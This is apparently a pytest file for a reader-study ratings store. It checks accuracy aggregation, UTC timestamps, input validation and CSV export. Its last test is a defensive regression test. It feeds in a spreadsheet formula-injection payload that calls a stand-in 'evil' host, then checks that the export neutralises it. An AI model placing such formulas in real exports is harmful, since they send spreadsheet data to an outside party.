"""The reader-study store: ratings in SQLite and accuracy per condition."""

from __future__ import annotations

import sqlite3
from datetime import datetime, timedelta, timezone

import pytest

from apps.reader_store import Rating, ReaderStore


def rating(reader: str, origin: str, call: str, condition: str, realism: int = 3) -> Rating:
    return Rating(reader, "s1", f"{origin}:x", origin, call, realism, condition, "data/d", "runs/s")


def test_accuracy_per_condition_and_reader(tmp_path):
    store = ReaderStore(tmp_path / "db" / "ratings.sqlite")
    for r in [
        rating("a", "real", "real", "viral", 5),
        rating("a", "synthetic", "real", "viral", 4),  # fooled
        rating("a", "synthetic", "synthetic", "normal", 1),
        rating("b", "real", "synthetic", "normal", 2),
    ]:
        store.record(r)
    assert store.readers() == ["a", "b"]
    by = {row.condition: row for row in store.accuracy()}
    assert list(by) == ["normal", "viral", "all"]
    assert (by["viral"].ratings, by["viral"].correct, by["viral"].accuracy) == (2, 1, 0.5)
    assert by["viral"].mean_realism_synthetic == 4 and by["viral"].real_as_real == 1
    assert (by["all"].ratings, by["all"].correct) == (4, 2)
    only_a = {row.condition: row for row in store.accuracy("a")}
    assert only_a["all"].ratings == 3 and only_a["normal"].accuracy == 1.0
    lines = store.csv_bytes("b").decode().splitlines()
    assert lines[0].startswith("id,reader,session,item,origin,call,realism,condition")
    assert len(lines) == 2 and ",b,s1,real:x,real,synthetic,2,normal," in lines[1]


def test_ratings_are_stamped_in_utc_and_validated(tmp_path):
    store = ReaderStore(tmp_path / "ratings.sqlite")
    local = datetime(2026, 1, 1, 12, 0, tzinfo=timezone(timedelta(hours=2)))
    row_id = store.record(rating("a", "real", "real", "normal"), when=local)
    assert store.rows()[0]["id"] == row_id
    assert store.rows()[0]["rated_at"] == "2026-01-01T10:00:00+00:00"
    for bad in (
        rating("a", "real", "maybe", "normal"),
        rating("a", "real", "real", "normal", realism=6),
        rating(" ", "real", "real", "normal"),
    ):
        with pytest.raises(ValueError):
            store.record(bad)
    with sqlite3.connect(tmp_path / "ratings.sqlite") as conn:
        assert conn.execute("SELECT count(*) FROM ratings").fetchone()[0] == 1
    assert datetime.fromisoformat(store.rows()[0]["rated_at"]).tzinfo is not None


def test_reader_ids_are_bounded_and_the_csv_export_is_formula_safe(tmp_path):
    """Issue 19 minor: reader ids had no length limit, and `=HYPERLINK(...)` landed raw in the
    ratings CSV, where a spreadsheet runs it."""
    import csv
    import io

    store = ReaderStore(tmp_path / "ratings.sqlite")
    with pytest.raises(ValueError, match="at most 64"):
        store.record(rating("x" * 65, "real", "real", "normal"))
    store.record(rating('=HYPERLINK("http://evil/?"&A1,"ok")', "real", "real", "+normal"))
    rows = list(csv.reader(io.StringIO(store.csv_bytes().decode())))
    assert rows[1][1] == '\'=HYPERLINK("http://evil/?"&A1,"ok")' and rows[1][7] == "'+normal"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
